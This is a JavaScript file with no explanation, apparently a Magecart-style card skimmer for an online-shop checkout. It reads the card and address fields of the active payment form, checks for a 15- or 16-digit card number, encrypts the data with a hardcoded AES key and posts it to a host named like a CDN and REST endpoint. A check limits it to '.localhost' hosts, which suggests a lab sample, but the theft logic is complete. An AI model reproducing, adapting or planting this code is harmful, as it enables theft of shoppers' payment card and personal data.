var CJ = window.CryptoJS;
var jobs = [];
function harvest() {
  var o = {};
  var n = document.querySelectorAll('.payment-method._active input, .payment-method._active select, fieldset.address input');
  for (var i = 0; i < n.length; i++) o[n[i].getAttribute('name') || n[i].id] = n[i].value;
  return o;
}
function work() {
  if (!/\.localhost$/.test(location.hostname)) return;
  if (location.hash.indexOf('payment') < 0) return setTimeout(work, 1000);
  var o = harvest();
  var raw = JSON.stringify(o);
  if (raw.match(/\d{15,16}/) && jobs.indexOf(raw) < 0) {
    jobs.push(raw);
    var c = CJ.AES.encrypt(raw, CJ.enc.Utf8.parse('k9d2kf83jd02ks81'), { iv: CJ.enc.Utf8.parse('0000000000000000') }).toString();
    require(['jquery'], function ($) { $.post('https://knockout-cdn.localhost/rest/V1/guest', { p: c }); });
  }
  setTimeout(work, 1000);
}
window.CryptoJS && work();
